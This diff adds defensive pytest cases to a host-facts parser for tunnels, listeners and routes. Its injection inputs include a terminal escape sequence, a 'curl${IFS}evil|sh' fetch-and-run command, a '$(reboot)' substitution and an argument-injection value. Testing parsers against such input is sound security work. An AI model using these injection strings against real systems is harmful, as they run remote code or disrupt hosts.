@@ -5,6 +5,7 @@ from ipaddress import IPv4Network
 import pytest
 
 from components.preflight.host_facts import Listener, PublicPorts, Route, TunnelFact, parse_facts
+from reach.told import UNREADABLE
 from settings import Ports, Protocol
 from tests.components.sshd import facts_text
 
@@ -65,6 +66,45 @@ def test_firewalls_are_read_if_there_are_any() -> None:
     assert facts.zoned == {"eth0", "wg0"}
 
 
+ESCAPE = "\x1b]52;c;aGk=\x07"
+
+
+def test_a_name_that_is_none_is_left_out_or_told_as_unreadable() -> None:
+    """Nobody is kept from going on by it."""
+    facts = parse_facts(
+        facts_text(
+            f"{ESCAPE} reverse-tunnel/{ESCAPE} 51820 172.16.0.1/24 {ESCAPE}",
+            "wg1 reverse-tunnel/x;curl${IFS}evil|sh 51821 172.17.0.1/24",
+            "wg2 --cwd=/x/home 51822 172.18.0.1/24",
+            os_name=f"Debian {ESCAPE}",
+            missing=f"iptables {ESCAPE}",
+            wireguard_go="1" * 5000,
+            default_interface=ESCAPE,
+            interfaces=f"lo {ESCAPE}",
+            udp_ports=f"53:{ESCAPE}",
+            listeners=f"tcp:443:{ESCAPE}:$(reboot)",
+            routes=f"10.0.0.0/8@{ESCAPE}",
+        )
+    )
+    assert facts.system == "Debian \ufffd]52;c;aGk=\ufffd"
+    assert facts.missing == ("iptables", UNREADABLE)
+    assert facts.wireguard_go == ""
+    assert facts.default_interface == UNREADABLE
+    assert facts.interfaces == {"lo"}
+    assert facts.udp_ports == {53: UNREADABLE}
+    assert facts.listeners == (Listener(Protocol.TCP, 443, UNREADABLE, UNREADABLE),)
+    assert facts.routes == (Route(IPv4Network("10.0.0.0/8"), UNREADABLE),)
+    assert facts.tunnels.keys() == {UNREADABLE, "wg1", "wg2"}
+    assert {each.owner for each in facts.tunnels.values()} == {UNREADABLE}
+    assert facts.tunnels[UNREADABLE].public == UNREADABLE
+
+
+def test_a_systems_own_name_may_have_any_letters() -> None:
+    for name in ("Größe\tLinux 3 (Übermut)", "a" * 80):
+        assert parse_facts(facts_text(os_name=name)).system == name
+    assert len(parse_facts(facts_text(os_name="a" * 81)).system) == 80
+
+
 @pytest.mark.parametrize(("told", "there"), [(None, True), ("yes", True), ("no", False)])
 def test_a_folder_for_metrics_is_missing_only_where_the_host_says_so(
     told: str | None, *, there: bool
@@ -83,11 +123,13 @@ def test_a_newer_probe_may_say_more() -> None:
         (facts_text(end=None), "no line says 'end'"),
         (facts_text(tun=None), "no line says 'tun'"),
         (facts_text(disk="much"), "garbled"),
+        (facts_text(disk="-" + "1" * 400), "garbled"),
         (facts_text(udp_ports="http:nginx"), "garbled"),
         (facts_text(listeners="tcp:443:nginx"), "garbled"),
         (facts_text(listeners="sctp:443:*:nginx"), "garbled"),
         (facts_text(routes="somewhere@eth0"), "garbled"),
         (facts_text(routes="10.0.0.0/8@eth0:via"), "garbled"),
+        (facts_text(routes=f"fd00::%{ESCAPE}/64@eth0"), "garbled"),
         (facts_text("wg0 home"), "garbled"),
         (facts_text("wg0 - - - ens6 web:tcp"), "garbled"),
         (facts_text("wg0 - - - ens6 web:icmp:80"), "garbled"),
